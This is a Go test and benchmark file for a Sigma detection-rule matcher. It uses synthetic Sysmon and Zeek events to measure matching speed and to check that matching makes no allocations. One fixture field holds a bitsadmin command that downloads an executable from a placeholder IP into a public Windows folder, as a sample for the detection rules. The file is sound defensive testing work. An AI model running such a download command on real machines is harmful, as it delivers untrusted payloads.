package sigma

import (
	"testing"

	"github.com/khien-cert/khien/internal/event"
)

// sysmonProcess is a Sysmon process creation as the Windows decoder gives
// it; with hit set it is a bitsadmin download to a public folder that three
// corpus rules flag, otherwise a routine svchost start that none does.
func sysmonProcess(hit bool) *event.Event {
	ev := winEvent(
		"EventID", "1", "Channel", "Microsoft-Windows-Sysmon/Operational", "Provider_Name", "Microsoft-Windows-Sysmon",
		"Computer", "ws-042.corp.example", "RuleName", "-", "UtcTime", "2025-12-25 14:30:27.352",
		"ProcessGuid", "{5AA13A44-0D74-68FC-EB1D-000000004002}", "ProcessId", "5624",
		"Image", `C:\Windows\System32\svchost.exe`, "FileVersion", "10.0.19041.1",
		"Description", "Host Process for Windows Services", "Product", "Microsoft® Windows® Operating System",
		"Company", "Microsoft Corporation", "OriginalFileName", "svchost.exe",
		"CommandLine", `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`,
		"CurrentDirectory", `C:\Windows\system32\`, "User", `NT AUTHORITY\SYSTEM`,
		"LogonGuid", "{5AA13A44-0D74-68FC-E703-000000000000}", "LogonId", "0x3e7", "TerminalSessionId", "0",
		"IntegrityLevel", "System", "Hashes", "MD5=0A2B1C,SHA256=ABCDEF,IMPHASH=123456",
		"ParentProcessGuid", "{5AA13A44-0D74-68FC-0B00-000000004002}", "ParentProcessId", "612",
		"ParentImage", `C:\Windows\System32\services.exe`, "ParentCommandLine", `C:\Windows\system32\services.exe`,
		"ParentUser", `NT AUTHORITY\SYSTEM`)
	if hit {
		ev.Fields["Image"] = `C:\Windows\System32\bitsadmin.exe`
		ev.Fields["OriginalFileName"] = "bitsadmin.exe"
		ev.Fields["CommandLine"] = `bitsadmin /transfer job /download /priority high http://203.0.113.7/a.exe C:\Users\Public\a.exe`
		ev.Fields["ParentImage"] = `C:\Windows\System32\cmd.exe`
	}
	return ev
}

// BenchmarkMatchRuleSet runs all corpus rules against one event per
// iteration and reports events per second.
func BenchmarkMatchRuleSet(b *testing.B) {
	rs := loadCorpusRules(b)
	for _, bc := range []struct {
		name string
		ev   *event.Event
	}{
		{"sysmon_process_creation_hit", sysmonProcess(true)},
		{"sysmon_process_creation_benign", sysmonProcess(false)},
		{"zeek_dns", &event.Event{Format: event.FormatZeek, Kind: "dns", Hosts: []string{"www.example.com"},
			Fields: map[string]string{"query": "www.example.com", "qtype_name": "A", "id.resp_p": "53", "Z": "0"}}},
	} {
		b.Run(bc.name, func(b *testing.B) {
			b.ReportAllocs()
			hits := 0
			for b.Loop() {
				rs.Match(bc.ev, func(*Rule, string, string) { hits++ })
			}
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
			b.ReportMetric(float64(hits)/float64(b.N), "hits/event")
		})
	}
}

// TestMatchDoesNotAllocate holds the invariant of the package doc.
func TestMatchDoesNotAllocate(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector makes sync.Pool allocate")
	}
	rs := loadCorpusRules(t)
	for _, ev := range []*event.Event{sysmonProcess(true), sysmonProcess(false)} {
		n := 0
		allocs := testing.AllocsPerRun(100, func() { rs.Match(ev, func(*Rule, string, string) { n++ }) })
		if allocs != 0 {
			t.Errorf("Match allocates %.1f times per event", allocs)
		}
	}
}
